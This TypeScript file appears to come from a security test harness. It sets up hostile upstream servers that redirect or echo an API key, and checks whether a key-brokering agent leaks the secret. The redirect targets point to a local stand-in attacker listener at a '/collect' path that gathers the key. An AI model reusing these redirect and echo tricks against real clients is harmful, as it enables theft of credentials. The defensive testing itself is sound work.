import type { AttackOutcome } from "@countersign/virtual-device";
import { createPlatformFetch } from "../forms/platform-fetch.ts";
import type { Behaviour } from "../stand-in/nasa-stand-in.ts";
import { createTlsAuthority } from "../tls/tls-authority.ts";
import { demoNames } from "../world/demo-app.ts";
import { callAgent, outcomeOf } from "./agent-call.ts";
import type { DemoAttack, DemoLab } from "./demo-attack.ts";
import { createListener, type Listener } from "./listener.ts";

const apodPath = "/planetary/apod";

interface Trap {
  readonly listener: Listener;
  readonly caPem: string;
  readonly behaviour: Behaviour;
}

/** How a trap is laid: whether the listener speaks TLS, and what the upstream then does with it. */
interface TrapPlan {
  readonly tls: boolean;
  readonly behaviour: (port: number, placeholder: string) => Behaviour;
}

async function withTrap<T>(lab: DemoLab, plan: TrapPlan, work: (trap: Trap) => Promise<T>): Promise<T> {
  const authority = createTlsAuthority({ name: "A public CA", nowMs: lab.world.clock.nowMs() });
  const listener = await createListener(plan.tls ? authority.issue(["127.0.0.1"]) : null);
  const behaviour = plan.behaviour(listener.port, lab.world.placeholder);
  lab.world.standIn.behave(behaviour);
  try {
    return await work({ listener, caPem: authority.pem, behaviour });
  } finally {
    lab.world.standIn.behave({ kind: "honest" });
    await listener.close();
  }
}

/** An app that follows any redirect and takes its query along, as carelessly built clients do. */
async function followCarelessly(lab: DemoLab, trap: Trap): Promise<void> {
  const { standIn, standInCa, apiKey } = lab.world;
  await createPlatformFetch({ trustedCas: [standInCa] })(`${standIn.origin}${apodPath}?api_key=${apiKey()}`);
  const target =
    trap.behaviour.kind === "redirect" || trap.behaviour.kind === "echo_in_location" ? trap.behaviour.target : "";
  const url = new URL(target);
  url.searchParams.set("api_key", apiKey());
  await createPlatformFetch({ trustedCas: [trap.caPem] })(url.href);
}

function hostileUpstream(
  of: Pick<DemoAttack, "name" | "attack" | "expected"> & { readonly plan: TrapPlan; readonly arrives: boolean },
): DemoAttack {
  const { plan, arrives, ...promised } = of;
  return {
    ...promised,
    platform: "any",
    run: (lab) =>
      withTrap(lab, plan, async (trap) => {
        const { agent } = lab.world.createAgent(lab.iphone(), { trustedCas: [trap.caPem] });
        await agent.start();
        try {
          const call = await callAgent(() =>
            agent.fetch(`${lab.world.standIn.origin}${apodPath}?api_key=${lab.world.placeholder}`),
          );
          if (arrives !== trap.listener.requests() > 0) {
            throw new Error(`the attacker's host got ${trap.listener.requests()} requests`);
          }
          return outcomeOf(agent, call, [...trap.listener.seen(), call.body]);
        } finally {
          agent.stop();
        }
      }),
    control: (lab) =>
      withTrap(lab, plan, async (trap) => {
        await followCarelessly(lab, trap);
        return { seen: trap.listener.seen(), planted: { [demoNames.secret]: lab.world.apiKey() } };
      }),
  };
}

export const redirectToForeignHost: DemoAttack = hostileUpstream({
  name: "redirect-to-foreign-host",
  attack:
    "The upstream redirects to a host of the attacker's, which has a good certificate, and asks for the key there.",
  expected: { kind: "session", code: "trusted" },
  plan: {
    tls: true,
    behaviour: (port, placeholder) => ({
      kind: "redirect",
      target: `https://127.0.0.1:${port}/collect?api_key=${placeholder}`,
    }),
  },
  arrives: true,
});

export const redirectToPlainHttp: DemoAttack = hostileUpstream({
  name: "redirect-to-plain-http",
  attack: "The upstream redirects to plain HTTP, where the network reads along.",
  expected: { kind: "agent_error", code: "redirect_refused" },
  plan: { tls: false, behaviour: (port) => ({ kind: "redirect", target: `http://127.0.0.1:${port}/planetary/apod` }) },
  arrives: false,
});

export const keyEchoedInLocation: DemoAttack = hostileUpstream({
  name: "key-echoed-in-location",
  attack: "The upstream writes the key into the Location of a redirect to a host of the attacker's.",
  expected: { kind: "agent_error", code: "redirect_refused" },
  plan: { tls: true, behaviour: (port) => ({ kind: "echo_in_location", target: `https://127.0.0.1:${port}/collect` }) },
  arrives: false,
});

/** Has an upstream that echoes the key answer a genuine app, and gives what the app's memory then holds. */
async function fetchEcho(lab: DemoLab, placeholder: string): Promise<AttackOutcome> {
  const { standIn } = lab.world;
  const { agent } = lab.world.createAgent(lab.pixel());
  standIn.behave({ kind: "echo_in_body" });
  await agent.start();
  try {
    const call = await callAgent(() => agent.fetch(`${standIn.origin}${apodPath}?api_key=${placeholder}`));
    return outcomeOf(agent, call, [call.body]);
  } finally {
    standIn.behave({ kind: "honest" });
    agent.stop();
  }
}

export const keyEchoedToBroker: DemoAttack = {
  name: "key-echoed-to-broker",
  platform: "any",
  attack:
    "The upstream writes a brokered key into its answer, in the clear and as base64, for whoever reads the app's memory.",
  expected: { kind: "session", code: "trusted" },
  run: (lab) => fetchEcho(lab, lab.world.brokeredPlaceholder),
  async control(lab) {
    // The delivered form on the same path: there the answer is the app's own, and nobody masks it.
    const { seen } = await fetchEcho(lab, lab.world.placeholder);
    return { seen, planted: { [demoNames.secret]: lab.world.apiKey() } };
  },
};
